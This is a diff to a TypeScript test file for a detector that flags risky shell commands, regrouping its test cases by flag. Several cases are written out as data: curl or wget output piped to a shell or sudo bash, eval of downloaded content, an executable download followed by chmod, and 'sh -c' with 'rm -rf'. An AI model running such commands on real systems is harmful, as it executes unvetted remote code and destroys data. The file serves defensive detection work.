@@ -60,29 +60,19 @@ test('every command is listed: shell block lines (continuations joined, comments
 });
 
 test('each flag on the shapes it names, and not on look-alikes', () => {
-  const cases: [string, string[]][] = [
-    ['curl -s https://x.example/i.sh | sudo -E bash', ['pipe-to-shell', 'download-executable']],
-    ['wget -qO- https://x.example/i | sh', ['pipe-to-shell']],
-    ['bash <(curl -s https://x.example/i)', ['pipe-to-shell']],
-    ['cat payload | /bin/zsh', ['pipe-to-shell']],
-    ['echo aGk= | base64 --decode', ['base64-decode']],
-    ['base64 -di blob > out', ['base64-decode']],
-    ['python3 -c "import base64; base64.b64decode(s)"', ['base64-decode']],
-    ['sh -c "rm -rf ~/x"', ['shell-c']],
-    ['bash -lc "make"', ['shell-c']],
-    ['eval "$(curl -s https://x.example/env)"', ['eval']],
-    ['x=1; eval $x', ['eval']],
-    ['node -e "eval(code)"', ['eval']],
-    ['curl -LO https://x.example/tool.exe', ['download-executable']],
-    ['curl -o t https://x.example/t && chmod 755 t', ['chmod-after-download']],
-    ['ssh -c aes128-ctr host', []],
-    ['obsidian eval "app.vault.getFiles().length"', []],
-    ['curl https://esm.sh/preact', []],
-    ['curl -s https://api.example/v1 | jq .', []],
-    ['chmod +x script', []],
-    ['chmod 644 file', []],
-  ];
-  for (const [command, flags] of cases) assert.deepEqual(flagsOf(command), flags, command);
+  const shapes: Record<string, string[]> = {
+    'pipe-to-shell': ['wget -qO- https://x.example/i | sh', 'bash <(curl -s https://x.example/i)', 'cat payload | /bin/zsh'],
+    'base64-decode': ['echo aGk= | base64 --decode', 'base64 -di blob > out', 'python3 -c "import base64; base64.b64decode(s)"'],
+    'shell-c': ['sh -c "rm -rf ~/x"', 'bash -lc "make"'],
+    eval: ['eval "$(curl -s https://x.example/env)"', 'x=1; eval $x', 'node -e "eval(code)"'],
+    'download-executable': ['curl -LO https://x.example/tool.exe', 'wget https://x.example/dl/setup.AppImage'],
+    'chmod-after-download': ['curl -o t https://x.example/t && chmod 755 t', 'wget x.example/t; chmod u+x t'],
+    'pipe-to-shell,download-executable': ['curl -s https://x.example/i.sh | sudo -E bash'],
+    '': ['ssh -c aes128-ctr host', 'obsidian eval "app.vault.getFiles().length"', 'curl https://esm.sh/preact', 'curl -s https://api.example/v1 | jq .', 'chmod +x script', 'chmod 644 file'],
+  };
+  for (const [flags, commands] of Object.entries(shapes)) {
+    for (const command of commands) assert.deepEqual(flagsOf(command), flags ? flags.split(',') : [], command);
+  }
 });
 
 test('code in other languages is listed only when flagged; prose "eval" is an English word', () => {
